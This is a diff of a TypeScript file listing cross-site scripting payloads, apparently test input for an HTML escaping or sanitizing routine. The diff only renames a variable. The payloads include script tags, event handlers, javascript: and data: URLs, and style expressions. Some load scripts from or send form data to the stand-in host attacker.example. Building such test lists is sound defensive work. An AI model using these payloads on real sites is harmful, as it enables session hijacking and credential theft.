@@ -1,13 +1,13 @@
 /** A call that reveals whether any of the strings below ever ran. */
 const run = 'alert(document.domain)'
-const away = 'attacker.example'
+const attackerHost = 'attacker.example'
 
 /** Strings that break out of texts, attributes, URLs, scripts or data unless escaped. */
 export const attacks: string[] = [
   // Scripts and handlers.
   `<script>${run}</script>`,
-  `<ScRiPt src=//${away}/x.js></sCrIpT>`,
-  `<script\u000csrc=//${away}></script\n>`,
+  `<ScRiPt src=//${attackerHost}/x.js></sCrIpT>`,
+  `<script\u000csrc=//${attackerHost}></script\n>`,
   `<<script>script>${run}<</script>/script>`,
   `<img src=x onerror=${run}>`,
   `<img/src/onerror=${run}//`,
@@ -41,16 +41,16 @@ export const attacks: string[] = [
   `<template><script>${run}</script></template>`,
   `<select><template><img src=x onerror=${run}></template></select>`,
   // Elements that load, move or post.
-  `<img srcset="//${away}/x.png 1x" src=x sizes=100vw>`,
-  `<picture><source srcset=//${away}/x.png></picture>`,
-  `<meta http-equiv=refresh content="0;url=//${away}">`,
-  `<base href=//${away}/>`,
-  `<link rel=stylesheet href=//${away}><link rel=import href=//${away}>`,
-  `<iframe src=javascript:${run}></iframe><frameset><frame src=//${away}></frameset>`,
-  `<object data=javascript:${run}></object><embed src=//${away}/x.swf><applet code=x>`,
-  `<form action=//${away}><input name=password><button formaction=javascript:${run}>Go</button></form>`,
-  `<a href=https://ok.example ping=//${away} target=_blank download>x</a>`,
-  `<portal src=//${away}></portal><marquee onstart=${run}>x</marquee>`,
+  `<img srcset="//${attackerHost}/x.png 1x" src=x sizes=100vw>`,
+  `<picture><source srcset=//${attackerHost}/x.png></picture>`,
+  `<meta http-equiv=refresh content="0;url=//${attackerHost}">`,
+  `<base href=//${attackerHost}/>`,
+  `<link rel=stylesheet href=//${attackerHost}><link rel=import href=//${attackerHost}>`,
+  `<iframe src=javascript:${run}></iframe><frameset><frame src=//${attackerHost}></frameset>`,
+  `<object data=javascript:${run}></object><embed src=//${attackerHost}/x.swf><applet code=x>`,
+  `<form action=//${attackerHost}><input name=password><button formaction=javascript:${run}>Go</button></form>`,
+  `<a href=https://ok.example ping=//${attackerHost} target=_blank download>x</a>`,
+  `<portal src=//${attackerHost}></portal><marquee onstart=${run}>x</marquee>`,
   // Addresses.
   `javascript:${run}`,
   `  JaVaScRiPt\t:${run}`,
@@ -62,15 +62,15 @@ export const attacks: string[] = [
   `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
   `DATA:image/svg+xml,<svg onload=${run}>`,
   `vb\tscript:msgbox(1)`,
-  `//${away}/x`,
-  `/\\${away}/x`,
-  `\\\\${away}\\x`,
-  `/\t/${away}`,
-  `<a href="java&#10;script:${run}">x</a><a href="&#x01;javascript:${run}">x</a><a href=/\\${away}>x</a>`,
-  `<a href="data:text/html,<script>${run}</script>">x</a><img src="vbscript:x"><img src=//${away}>`,
+  `//${attackerHost}/x`,
+  `/\\${attackerHost}/x`,
+  `\\\\${attackerHost}\\x`,
+  `/\t/${attackerHost}`,
+  `<a href="java&#10;script:${run}">x</a><a href="&#x01;javascript:${run}">x</a><a href=/\\${attackerHost}>x</a>`,
+  `<a href="data:text/html,<script>${run}</script>">x</a><img src="vbscript:x"><img src=//${attackerHost}>`,
   // Styles.
-  `<style>@import "//${away}";*{background:url(//${away})}</style>`,
-  `<p style="width:expression(${run});behavior:url(//${away});position:fixed">x</p>`,
+  `<style>@import "//${attackerHost}";*{background:url(//${attackerHost})}</style>`,
+  `<p style="width:expression(${run});behavior:url(//${attackerHost});position:fixed">x</p>`,
   `red;background:url(javascript:${run})`,
   // Ends of surrounding contexts.
   `</script><script>${run}</script>`,
